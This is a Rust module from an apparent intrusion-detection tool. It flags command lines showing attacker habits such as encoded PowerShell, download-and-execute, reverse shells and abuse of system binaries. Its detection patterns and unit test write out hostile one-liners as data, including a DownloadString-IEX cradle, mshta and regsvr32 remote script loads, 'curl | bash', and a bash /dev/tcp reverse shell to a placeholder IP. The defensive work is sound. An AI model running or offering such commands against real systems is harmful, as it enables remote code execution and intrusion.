//! Is somebody else at work on the machine? Each rule looks for one habit of intruders.
//!
//! A machine that is called compromised is taken off the network, so that a rule may only prove it where honest software
//! does not do the same: what installers, updaters and kiosks do keeps a case open at most.

pub(super) mod autostart;
pub(super) mod firewall;
pub(super) mod foothold;
pub(super) mod known_bad;
pub(super) mod masquerade;
pub(super) mod no_file;
pub(super) mod parent_chain;
pub(super) mod recycle_bin;
pub(super) mod winlogon;

use autostart::started_file;
pub(in super::super) use winlogon::is_default as is_winlogon_default;

use super::super::verdict::{Bearing, Citation, Confidence};
use super::Draft;

/// Programs that do what their arguments say.
const INTERPRETERS: [&str; 24] = [
    "powershell",
    "pwsh",
    "cmd",
    "wscript",
    "cscript",
    "mshta",
    "rundll32",
    "regsvr32",
    "msbuild",
    "installutil",
    "certutil",
    "bitsadmin",
    "sh",
    "bash",
    "dash",
    "zsh",
    "ash",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "java",
];

/// The base name of an image without `.exe`, in lower case.
fn stem(path: &str) -> String {
    let path = super::super::indicators::clean(path);
    let base = super::super::indicators::base(&path);
    base.strip_suffix(".exe").unwrap_or(base).to_owned()
}

fn is_interpreter(stem: &str) -> bool {
    INTERPRETERS.contains(&stem) || (stem.starts_with("python") && stem.len() <= 10)
}

/// What in a command line fetches code from elsewhere or hides it, in words. Bounded: the line is the endpoint's.
fn hostile_signs(line: &str) -> Vec<&'static str> {
    let line: String = line.chars().take(8192).collect::<String>().to_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| line.contains(word));
    let mut signs = Vec::new();
    let powershell = has(&["powershell", "pwsh"]);
    let url = has(&["http://", "https://", "ftp://"]);
    if powershell
        && has(&[" -enc ", " -encodedcommand ", " -ec ", " /enc ", " -e ja", " -e sq", "frombase64string"])
    {
        signs.push("encoded code");
    }
    if has(&["downloadstring", "downloadfile", "downloaddata"])
        || (powershell
            && has(&["invoke-webrequest", "iwr ", "invoke-restmethod"])
            && has(&["iex", "invoke-expression"]))
        || (has(&["mshta", "regsvr32", "certutil", "bitsadmin", "msiexec"]) && url)
        || (has(&["curl ", "wget "]) && has(&["| sh", "|sh", "| bash", "|bash", "| python", "|python"]))
    {
        signs.push("code from the network");
    }
    if has(&["/dev/tcp/", "/dev/udp/", "nc -e", "ncat -e", "bash -i >&"]) {
        signs.push("a shell towards the network");
    }
    if has(&["javascript:", "vbscript:"]) && has(&["rundll32", "mshta", "regsvr32"]) {
        signs.push("script in a system program's arguments");
    }
    if has(&["base64 -d", "base64 --decode"]) && has(&["| sh", "|sh", "| bash", "|bash"]) {
        signs.push("encoded code");
    }
    // By itself it only spares the user a window.
    if powershell && !signs.is_empty() && has(&["-w hidden", "-windowstyle hidden", "-w 1 "]) {
        signs.push("a hidden window");
    }
    signs
}

/// A finding about one or more rows.
fn finding(
    (bearing, confidence): (Bearing, Confidence),
    headline: String,
    details: Vec<String>,
    citations: Vec<Citation>,
) -> Draft {
    Draft { uncited: 0, confidence, bearing, headline, details, citations }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_administrators_do_every_day_is_not_hostile() {
        for line in [
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Ops\\backup.ps1",
            "powershell -WindowStyle Hidden -Command Start-Service Spooler",
            "cmd /c curl https://corp.example/ping",
            "certutil -verify cert.cer",
            "bash -c 'curl -fsSL https://corp.example/a -o /tmp/a'",
            "",
        ] {
            assert_eq!(hostile_signs(line), [""; 0], "{line}");
        }
        for line in [
            "powershell -w hidden -enc SQBFAFgA",
            "powershell -c IEX(New-Object Net.WebClient).DownloadString('http://x')",
            "mshta http://x/a.hta",
            "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
            "curl -s http://x | bash",
            "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
            "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \"",
        ] {
            assert!(!hostile_signs(line).is_empty(), "{line}");
        }
    }
}
